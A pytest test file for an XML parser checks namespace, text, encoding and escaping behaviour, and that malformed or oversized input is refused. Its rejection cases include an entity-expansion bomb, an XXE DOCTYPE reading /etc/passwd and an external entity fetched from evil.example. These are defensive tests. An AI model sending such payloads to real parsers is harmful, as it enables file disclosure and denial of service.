import pytest

from heliograph.mm7 import tree
from heliograph.mm7.errors import NotReadable
from heliograph.mm7.tree import escaped, parse


def test_names_lose_their_prefixes_and_attributes_too() -> None:
    root = parse(b'<e:a xmlns:e="urn:x" xmlns="urn:y"><b e:c="1" d="2"/></e:a>')
    (child,) = root.children
    assert (root.name, root.namespace) == ("a", "urn:x")
    assert (child.name, child.namespace, child.attributes) == ("b", "urn:y", {"c": "1", "d": "2"})


def test_text_is_put_together_and_trimmed() -> None:
    assert parse(b"<a> one &amp; <![CDATA[<two>]]> <b/> </a>").text == "one & <two>"
    assert parse(b"<a><b> x </b></a>").text_of("b") == "x"
    assert parse(b"<a/>").text_of("b") == ""


@pytest.mark.parametrize(
    "document",
    [
        "<?xml version='1.0' encoding='utf-16'?><a>é</a>".encode(),
        "<?xml version='1.0' encoding='utf-16'?><a>é</a>".encode("utf-16"),
        "<?xml version='1.0' encoding='iso-8859-1'?><a>é</a>".encode("latin-1"),
        "<?xml version='1.0' encoding='windows-1252'?><a>é</a>".encode("latin-1"),
        "\ufeff<a>é</a>".encode(),
    ],
)
def test_encodings_are_read_as_they_are(document: bytes) -> None:
    assert parse(document).text == "é"


LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><a>&d;</a>"""


@pytest.mark.parametrize(
    "document",
    [
        LAUGHS,
        b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/"> %b;]><a/>',
        b"<!DOCTYPE a><a/>",
        b"<a>&nothing;</a>",
        b"<?php echo ?><a/>",
        b"<a><?xml-stylesheet href='x'?></a>",
        b"",
        b"hello",
        b"<a>",
        b"<a></b>",
        b"<a/><b/>",
        b"<a x='1' x='2'/>",
        b"<p:a/>",
        b"\xff\xfe<a/>",
        b"<?xml version='1.0' encoding='hex'?><a/>",
        b"<?xml version='1.0' encoding='nonsense'?><a/>",
        b"<?xml version='1.0' encoding='gb18030'?><a>\x81\x30\x81\x30</a>",
        b"<a>" * (tree.MOST_DEPTH + 1) + b"</a>" * (tree.MOST_DEPTH + 1),
        b"<a>" * 1_000_000,
        b"<a>" + b"<b/>" * tree.MOST_ELEMENTS + b"</a>",
        b"<a>" + b"x" * tree.MOST_OCTETS + b"</a>",
    ],
)
def test_what_is_no_plain_xml_within_bounds_is_refused(document: bytes) -> None:
    with pytest.raises(NotReadable):
        parse(document)


def test_as_deep_and_as_many_as_allowed_are_read() -> None:
    parse(b"<a>" * tree.MOST_DEPTH + b"</a>" * tree.MOST_DEPTH)
    assert len(parse(b"<a>" + b"<b/>" * (tree.MOST_ELEMENTS - 1) + b"</a>").children) == tree.MOST_ELEMENTS - 1


def test_what_was_escaped_is_read_as_it_was() -> None:
    text = "1 < 2 & \"3\" > 'x' 🦉"
    found = parse(f'<a b="{escaped(text)}">{escaped(text)}</a>'.encode())
    assert (found.text, found.attributes["b"]) == (text, text)


def test_what_xml_cannot_write_does_not_break_it() -> None:
    assert parse(f"<a>{escaped(chr(0) + chr(0xD800) + chr(0xFFFE))}</a>".encode()).text == "\ufffd\ufffd\ufffd"
